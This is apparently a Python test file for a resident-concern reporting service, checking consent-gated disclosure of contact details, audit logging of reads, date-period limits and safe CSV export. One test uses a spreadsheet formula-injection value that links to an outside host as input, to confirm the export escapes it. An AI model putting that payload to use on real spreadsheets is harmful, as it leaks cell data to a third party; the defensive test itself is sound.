"""Reading words: what each reason shows, what stays on record, and over which days it is looked up."""

from __future__ import annotations

import csv
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from io import StringIO
from uuid import UUID, uuid4

import pytest
from hypothesis import given
from hypothesis import strategies as st
from stride_sessions.domain.concern import Account, Concern, ConcernId, new_concern
from stride_sessions.domain.concern_life import PERSON, TEAM
from stride_sessions.domain.concern_steps import Ask, Doer
from stride_sessions.domain.reading_refusals import PeriodUnfit
from stride_sessions.domain.readings import MOST_DAYS, OF_CONCERN, Noted, Period, ReadingReason, disclose
from stride_sessions.domain.refusals import Unknown
from stride_sessions.domain.words import Words
from stride_sessions.handlers.reading_ports import Wanted
from stride_sessions.handlers.readings import ReadWords, read_words
from stride_sessions.lists import readings_sheet
from stride_sessions.testing import MemoryOffice

NOW = datetime(2026, 11, 26, 19, 40, tzinfo=UTC)
TODAY = date(2026, 11, 26)
ACCOUNT = Account(
    kind="concern",
    category="poor-lighting",
    setting="park-or-open-space",
    light="dark",
    severity="medium",
    ward="E05000455",
)
HERS = Words(text="By the pond", contact="asha@resident.example", may_be_contacted=True)
CONTACT = ReadingReason.CONTACT


def concern() -> Concern:
    raised, _ = new_concern(ConcernId(uuid4()), ACCOUNT, session=None, doer=Doer(PERSON), at=NOW)
    asked, _ = raised.take(Ask(), Doer(TEAM, "an-officer"), at=NOW)
    return asked


@pytest.mark.parametrize("may_be_contacted", [True, False])
@pytest.mark.parametrize("reason", ReadingReason)
def test_her_contact_is_shown_to_reach_her_with_her_consent_and_never_else(
    reason: ReadingReason,
    may_be_contacted: bool,  # noqa: FBT001 - a case of the test
) -> None:
    words = replace(HERS, may_be_contacted=may_be_contacted)
    [said] = disclose(concern(), {1: words}, reason.value)
    is_shown = reason is CONTACT and may_be_contacted
    assert said.words == (words if is_shown else replace(words, contact=None))


def test_what_was_said_is_shown_in_order_with_its_steps() -> None:
    said = disclose(concern(), {2: Words(text="Which end?"), 1: HERS, 3: Words(text="added meanwhile")}, "triage")
    assert [(one.change.step, one.words.text) for one in said] == [("raise", "By the pond"), ("ask", "Which end?")]


async def test_each_reading_is_noted_with_who_why_and_when() -> None:
    work = MemoryOffice(NOW).open("merton")
    one = concern()
    await work.concerns.add(one)
    await work.words.add(one.concern_id, 1, HERS)
    for reader in ("officer-1", "officer-2"):
        [said] = await read_words(ReadWords(one.concern_id, "legal", reader), work)
        assert said.words.text == "By the pond"
    noted = await work.readings.page(Wanted(), after=None, limit=9)
    assert [(row.read_of, row.read_by, row.reason, row.read_at) for row in noted] == [
        (one.concern_id, "officer-2", "legal", NOW),
        (one.concern_id, "officer-1", "legal", NOW),
    ]


async def test_of_a_concern_that_is_not_there_nothing_is_noted() -> None:
    work = MemoryOffice(NOW).open("merton")
    with pytest.raises(Unknown):
        await read_words(ReadWords(ConcernId(uuid4()), "legal", "officer-1"), work)
    assert await work.readings.page(Wanted(), after=None, limit=9) == []


def test_a_period_is_the_last_ninety_days_unless_another_is_asked_for() -> None:
    assert Period.of(None, None, today=TODAY) == Period(date(2026, 8, 29), TODAY)
    assert Period.of(None, date(2026, 1, 31), today=TODAY) == Period(date(2025, 11, 3), date(2026, 1, 31))
    assert Period.of(date(2026, 11, 1), date(9999, 12, 31), today=TODAY) == Period(date(2026, 11, 1), TODAY)


@pytest.mark.parametrize(
    ("first", "last"),
    [
        (date(2026, 11, 27), None),
        (date(2026, 11, 2), date(2026, 11, 1)),
        (TODAY - timedelta(days=MOST_DAYS), None),
        (date(9999, 12, 31), date(9999, 12, 31)),
    ],
)
def test_a_period_that_ends_before_it_begins_or_is_too_long_is_refused(first: date, last: date | None) -> None:
    with pytest.raises(PeriodUnfit):
        Period.of(first, last, today=TODAY)


@given(st.none() | st.dates(), st.none() | st.dates())
def test_whatever_days_are_asked_for_a_period_is_whole_or_refused(first: date | None, last: date | None) -> None:
    try:
        period = Period.of(first, last, today=TODAY)
    except PeriodUnfit:
        return
    assert first in (None, period.first)
    assert timedelta(hours=23) <= period.ends_at - period.begins_at <= timedelta(days=MOST_DAYS, hours=1)


def test_a_period_ends_at_midnight_in_london_also_in_summer() -> None:
    period = Period.of(date(2026, 7, 1), date(2026, 7, 1), today=TODAY)
    assert (period.begins_at, period.ends_at) == (
        datetime(2026, 6, 30, 23, tzinfo=UTC),
        datetime(2026, 7, 1, 23, tzinfo=UTC),
    )


def test_the_sheet_has_a_line_for_each_reading_and_no_cell_is_a_formula() -> None:
    noted = Noted(
        kind=OF_CONCERN,
        read_of=UUID(int=7),
        read_by='=HYPERLINK("https://x.example?"&A1)',
        reason="legal",
        read_at=datetime(2026, 6, 30, 23, 30, tzinfo=UTC),
        number=1,
    )
    [line] = csv.DictReader(StringIO(readings_sheet([noted]).decode("utf-8-sig"), newline=""))
    assert line == {
        "date": "2026-07-01",
        "read_at": "2026-06-30T23:30:00Z",
        "kind": "concern",
        "id": str(UUID(int=7)),
        "read_by": "'" + noted.read_by,
        "reason": "legal",
    }
